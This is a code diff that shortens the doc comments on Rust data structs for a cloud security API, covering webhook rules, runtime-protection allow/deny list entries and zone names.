@@ -15436,52 +10101,34 @@ pub struct WebHookRuleDetail {
 /// Returned in the output of [`DescribeWebHookRules`](super::DescribeWebHookRules).
 #[tc_model]
 pub struct WebHookRuleSummary {
-    /// `RuleId`: a signed 64-bit integer.
-    ///
-    /// Example: `10001`
+    /// `RuleId`; example: `10001`
     pub rule_id: i64,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"rule_name"`
+    /// `RuleName`; example: `"rule_name"`
     pub rule_name: String,
 
-    /// `HookAddr`: a string.
+    /// `HookAddr`
     pub hook_addr: String,
 
-    /// `RuleRemark`: a string.
-    ///
-    /// Example: `"备注"`
+    /// `RuleRemark`; example: `"备注"`
     pub rule_remark: String,
 
-    /// `RuleItems`: a list of [`WebHookEventKv`] objects.
-    ///
-    /// Example: `[{"ControlBit":"1","Type":24}]`
+    /// `RuleItems`; example: `[{"ControlBit":"1","Type":24}]`
     pub rule_items: Vec<WebHookEventKv>,
 
-    /// `HostLabels`: a list of [`WebHookHostLabel`] objects.
-    ///
-    /// Example: `[{"Type":4,"Values":[]}]`
+    /// `HostLabels`; example: `[{"Type":4,"Values":[]}]`
     pub host_labels: Vec<WebHookHostLabel>,
 
-    /// `IsDisabled`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsDisabled`; example: `1`
     pub is_disabled: i64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2023-02-17T18:41:03+08:00"`
+    /// `CreateTime`; example: `"2023-02-17T18:41:03+08:00"`
     pub create_time: String,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"2023-02-17T18:41:03+08:00"`
+    /// `UpdateTime`; example: `"2023-02-17T18:41:03+08:00"`
     pub update_time: String,
 
-    /// `HostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `HostCount`; example: `0`
     pub host_count: i64,
 }
 
@@ -15491,164 +10138,104 @@ pub struct WebHookRuleSummary {
 #[doc(alias = "YDRaspBlackWhiteListItem")]
 #[tc_model]
 pub struct YdRaspBlackWhiteListItem {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Id`; example: `12`
     pub id: u64,
 
-    /// `LogicalSymbol`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `LogicalSymbol`; example: `0`
     pub logical_symbol: u64,
 
-    /// `ClassNameRegexp`: a string.
-    ///
-    /// Example: `"webshell_filter"`
+    /// `ClassNameRegexp`; example: `"webshell_filter"`
     pub class_name_regexp: String,
 
-    /// `SuperClassNameRegexp`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `SuperClassNameRegexp`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub super_class_name_regexp: String,
 
-    /// `InterfacesRegexp`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `InterfacesRegexp`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub interfaces_regexp: String,
 
-    /// `AnnotationsRegexp`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `AnnotationsRegexp`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub annotations_regexp: String,
 
-    /// `LoaderClassNameRegexp`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `LoaderClassNameRegexp`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub loader_class_name_regexp: String,
 
-    /// `Source`: a string.
-    ///
-    /// Example: `"rasp"`
+    /// `Source`; example: `"rasp"`
     pub source: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-09-20 15:32:26"`
+    /// `CreateTime`; example: `"2024-09-20 15:32:26"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-11-03 15:09:33"`
+    /// `ModifyTime`; example: `"2024-11-03 15:09:33"`
     pub modify_time: String,
 
-    /// `HandleHistory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HandleHistory`; example: `1`
     pub handle_history: u64,
 
-    /// `Content`: a string.
-    ///
-    /// Example: `"/api/user"`
+    /// `Content`; example: `"/api/user"`
     pub content: String,
 
-    /// `IP`: a string.
-    ///
-    /// Example: `"10.10.10.11"`
+    /// `IP`; example: `"10.10.10.11"`
     #[tc(rename = "IP")]
     pub ip: String,
 
-    /// `PolicyName`: a string.
-    ///
-    /// Example: `"规则名称"`
+    /// `PolicyName`; example: `"规则名称"`
     pub policy_name: String,
 
-    /// `FilterType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FilterType`; example: `1`
     pub filter_type: i64,
 
-    /// `AttackType`: a signed 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `AttackType`; example: `12`
     pub attack_type: i64,
 
-    /// `MatchMode`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `MatchMode`; example: `0`
     pub match_mode: i64,
 
-    /// `CWPEffective`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `CWPEffective`; example: `1`
     #[tc(rename = "CWPEffective")]
     pub cwp_effective: i64,
 
-    /// `CWPScope`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `CWPScope`; example: `1`
     #[tc(rename = "CWPScope")]
     pub cwp_scope: i64,
 
-    /// `CWPQuuids`: a list of strings.
-    ///
-    /// Example: `["acdd5474-6360-4fd4-bfc7-843162cb8116"]`
+    /// `CWPQuuids`; example: `["acdd5474-6360-4fd4-bfc7-843162cb8116"]`
     #[tc(rename = "CWPQuuids")]
     pub cwp_quuids: Vec<String>,
 
-    /// `TCSSEffective`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `TCSSEffective`; example: `1`
     #[tc(rename = "TCSSEffective")]
     pub tcss_effective: i64,
 
-    /// `TCSSScope`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `TCSSScope`; example: `1`
     #[tc(rename = "TCSSScope")]
     pub tcss_scope: i64,
 
-    /// `TCSSQuuids`: a list of strings.
-    ///
-    /// Example: `["acdd5474-6360-4fd4-bfc7-843162cb8116"]`
+    /// `TCSSQuuids`; example: `["acdd5474-6360-4fd4-bfc7-843162cb8116"]`
     #[tc(rename = "TCSSQuuids")]
     pub tcss_quuids: Vec<String>,
 
-    /// `EksEffective`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EksEffective`; example: `1`
     pub eks_effective: i64,
 
-    /// `EksScope`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EksScope`; example: `1`
     pub eks_scope: i64,
 
-    /// `EksNodeUniqueID`: a list of strings.
-    ///
-    /// Example: `["b5ef4789fe709adc70b0627430c132ba"]`
+    /// `EksNodeUniqueID`; example: `["b5ef4789fe709adc70b0627430c132ba"]`
     #[tc(rename = "EksNodeUniqueID")]
     pub eks_node_unique_id: Vec<String>,
 
-    /// `CWPMachinesNums`: a string.
-    ///
-    /// Example: `"12"`
+    /// `CWPMachinesNums`; example: `"12"`
     #[tc(rename = "CWPMachinesNums")]
     pub cwp_machines_nums: String,
 
-    /// `TCSSMachinesNums`: a string.
-    ///
-    /// Example: `"13"`
+    /// `TCSSMachinesNums`; example: `"13"`
     #[tc(rename = "TCSSMachinesNums")]
     pub tcss_machines_nums: String,
 
-    /// `EksMachinesNums`: a string.
-    ///
-    /// Example: `"14"`
+    /// `EksMachinesNums`; example: `"14"`
     pub eks_machines_nums: String,
 }
 
@@ -15657,8 +10244,6 @@ pub struct YdRaspBlackWhiteListItem {
 /// Returned in the output of [`DescribeBanRegions`](super::DescribeBanRegions).
 #[tc_model]
 pub struct ZoneInfo {
-    /// `ZoneName`: a string.
-    ///
-    /// Example: `"广州三区"`
+    /// `ZoneName`; example: `"广州三区"`
     pub zone_name: String,
 }
